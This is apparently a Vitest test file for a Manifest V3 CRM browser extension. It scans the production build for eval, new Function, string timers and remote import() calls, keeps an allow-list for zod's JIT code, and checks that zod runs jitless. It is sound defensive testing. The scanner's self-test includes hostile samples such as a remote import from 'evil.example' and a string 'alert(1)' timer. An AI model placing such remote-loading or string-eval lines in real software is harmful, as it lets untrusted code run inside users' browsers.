import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, describe, expect, it } from 'vitest';
import { buildFiles, readBuildFile } from '../harness/build-output';

/**
 * No code is made from strings in the shipped extension: MV3's default CSP
 * throws on it, and CRM data must never become code. Every .js of the
 * production build is scanned.
 */
const FORBIDDEN: [name: string, pattern: RegExp][] = [
  ['eval(', /(?<![\w$.])eval\s*\(/g],
  ['new Function(', /\bnew\s+Function\s*\(/g],
  ['Function( constructor call', /(?<![\w$.])Function\s*\(/g],
  ['Function taken as a value (aliased constructor)', /(?<![\w$.])Function(?=\s*[,;)}\]])/g],
  ['string setTimeout/setInterval', /\bset(?:Timeout|Interval)\s*\(\s*["'`]/g],
  ['importScripts(', /\bimportScripts\s*\(/g],
  ['remote import()', /\bimport\s*\(\s*["'`](?:https?:)?\/\//g],
];

/**
 * Occurrences allowed by exact snippet, each on a path KPI Lens never takes.
 * Both are zod 4's JIT, disabled by `z.config({ jitless: true })` in
 * lib/model/zod.ts, which every schema module imports `z` from (checked below):
 * - the `allowsEval` probe returns false before trying `Function('')` when jitless is set;
 * - `Doc.compile` builds an object parser's fast path, only for schemas made while jitless was off.
 * The tests below prove both unreachable; the e2e tests run the built pages under the default MV3 CSP.
 */
const ALLOWED: { files: RegExp; snippet: RegExp; why: string }[] = [
  {
    files: /\.js$/,
    snippet:
      /\.jitless\|\|typeof navigator<`u`&&navigator\?\.userAgent\?\.includes\(`Cloudflare`\)\)return!1;try\{return Function\(``\),!0\}catch\{return!1\}/g,
    why: 'zod allowsEval probe, guarded by `jitless` (returns false first)',
  },
  {
    files: /\.js$/,
    snippet: /compile\(\)\{let [\w$]+=Function,[\w$]+=this\?\.content\?\?\[``\];return new [\w$]+\(/g,
    why: 'zod Doc.compile (object JIT), only for schemas built while jitless is off',
  },
];

/** Forbidden matches in a text after the allowed snippets are blanked out. */
export function forbiddenIn(file: string, code: string): string[] {
  let text = code;
  for (const { files, snippet } of ALLOWED) if (files.test(file)) text = text.replace(snippet, (m) => ' '.repeat(m.length));
  return FORBIDDEN.flatMap(([name, pattern]) =>
    [...text.matchAll(pattern)].map((m) => `${file}: ${name} at ${m.index}: …${text.slice(Math.max(0, m.index - 40), m.index + 40)}…`),
  );
}

describe('no code from strings in the production build', () => {
  const scripts = buildFiles('.js');

  it('scans every script of the build: background, content scripts, pages, chunks, workers', () => {
    expect(scripts).toEqual(expect.arrayContaining(['background.js', 'content-scripts/crm.js']));
    expect(scripts.some((file) => file.startsWith('chunks/'))).toBe(true);
    expect(scripts.length).toBeGreaterThan(10);
  });

  it('has no eval, new Function, Function(), string timers or remote imports outside the allow-list', () => {
    expect(scripts.flatMap((file) => forbiddenIn(file, readBuildFile(file)))).toEqual([]);
  });

  it('allows only what is listed: the zod snippets are present and guarded by jitless', () => {
    const withZod = scripts.filter((file) => readBuildFile(file).includes('this.content.push'));
    expect(withZod.length).toBeGreaterThan(0);
    for (const file of withZod) {
      const code = readBuildFile(file);
      // the bundle that holds zod's JIT also sets jitless (lib/model/zod.ts, minified)
      expect(code, file).toMatch(/[\w$]+\(\{jitless:!0\}\)/);
      expect(code, file).toMatch(ALLOWED[1]!.snippet);
    }
  });

  it('catches what it must (the scanner is not vacuous)', () => {
    const samples = [
      'eval("1")',
      'x=new Function("a","return a")',
      'Function("return this")()',
      'let F=Function;',
      'setTimeout("alert(1)",1)',
      'import("https://evil.example/x.js")',
      "importScripts('x.js')",
    ];
    for (const sample of samples) expect(forbiddenIn('x.js', sample).length, sample).toBeGreaterThan(0);
    for (const fine of [
      'obj.eval(1)',
      'x.dynamicTypingFunction(t)',
      'setTimeout(() => 1, 5)',
      'e instanceof Function.prototype.constructor',
      'typeof f=="function"',
    ]) {
      expect(forbiddenIn('x.js', fine), fine).toEqual([]);
    }
  });
});

describe('zod runs jitless: its JIT is never reached', () => {
  const realFunction = globalThis.Function;
  afterEach(() => {
    globalThis.Function = realFunction;
  });

  /** Replaces the global Function by a recorder; modules imported afterwards see it. */
  function spyOnFunction(): { calls: number } {
    const spy = { calls: 0 };
    globalThis.Function = new Proxy(realFunction, {
      apply: (target, self, args: unknown[]) => ((spy.calls += 1), Reflect.apply(target, self, args)),
      construct: (target, args: unknown[]) => ((spy.calls += 1), Reflect.construct(target, args)),
    });
    return spy;
  }

  it('building and using every schema (records, messages, settings) never calls Function', async () => {
    const spy = spyOnFunction();
    const { parseRecord, RECORD_TYPES } = await import('../../lib/model');
    const { requestSchema } = await import('../../lib/messaging/protocol');
    const { generateDemoData } = await import('../../lib/demo');
    const demo = generateDemoData({ asOf: Date.parse('2024-03-10T12:00:00Z') });
    let parsed = 0;
    for (const type of RECORD_TYPES) {
      const key = ({ activity: 'activities', spend: 'spend', mrrMovement: 'mrrMovements' } as Record<string, string>)[type] ?? `${type}s`;
      for (const record of ((demo as unknown as Record<string, unknown[]>)[key] ?? []).slice(0, 50)) parsed += parseRecord(type, record).ok ? 1 : 0;
    }
    for (const message of [
      { type: 'status/get' },
      { type: 'page/opened', url: 'https://acme.pipedrive.com/' },
      { type: 'sync/start', source: 'x' },
      { nope: 1 },
    ])
      requestSchema.safeParse(message);
    expect(parsed).toBeGreaterThan(200);
    expect(spy.calls).toBe(0);
  });

  it('the recorder would see zod JIT-compile a schema built with jitless off (the spy works)', async () => {
    const spy = spyOnFunction();
    const { z } = await import('../../lib/model/zod');
    z.config({ jitless: false });
    try {
      const schema = z.object({ a: z.number(), b: z.string() });
      for (let i = 0; i < 3; i += 1) schema.parse({ a: i, b: 'x' });
    } finally {
      z.config({ jitless: true });
    }
    expect(spy.calls).toBeGreaterThan(0);
  });

  it('the content script’s commands (zod’s small build) never call Function either', async () => {
    const spy = spyOnFunction();
    const { readContentCommand } = await import('../../lib/messaging/content-commands');
    for (const message of [{ type: 'sidebar/frame', open: true, width: 400, placement: 'push' }, { type: 'sidebar/frame', open: 1 }, { nope: 1 }])
      readContentCommand(message, { id: 'x' }, 'x');
    expect(readContentCommand({ type: 'sidebar/frame', open: false, width: 300, placement: 'overlay' }, { id: 'x' }, 'x')).toEqual({
      type: 'sidebar/frame',
      open: false,
      width: 300,
      placement: 'overlay',
    });
    expect(spy.calls).toBe(0);
  });

  it('every source file takes z from lib/model/zod (or zod-mini), so jitless is set before any schema is built', () => {
    const root = fileURLToPath(new URL('../..', import.meta.url));
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const entry of readdirSync(dir, { withFileTypes: true })) {
        const path = join(dir, entry.name);
        if (entry.isDirectory()) walk(path);
        else if (/\.tsx?$/.test(entry.name) && /from\s+['"]zod(\/[^'"]*)?['"]|import\(\s*['"]zod/.test(readFileSync(path, 'utf8')))
          offenders.push(relative(root, path));
      }
    };
    for (const dir of ['lib', 'entrypoints', 'components']) walk(join(root, dir));
    expect(offenders).toEqual(['lib/model/zod-mini.ts', 'lib/model/zod.ts']);
  });
});
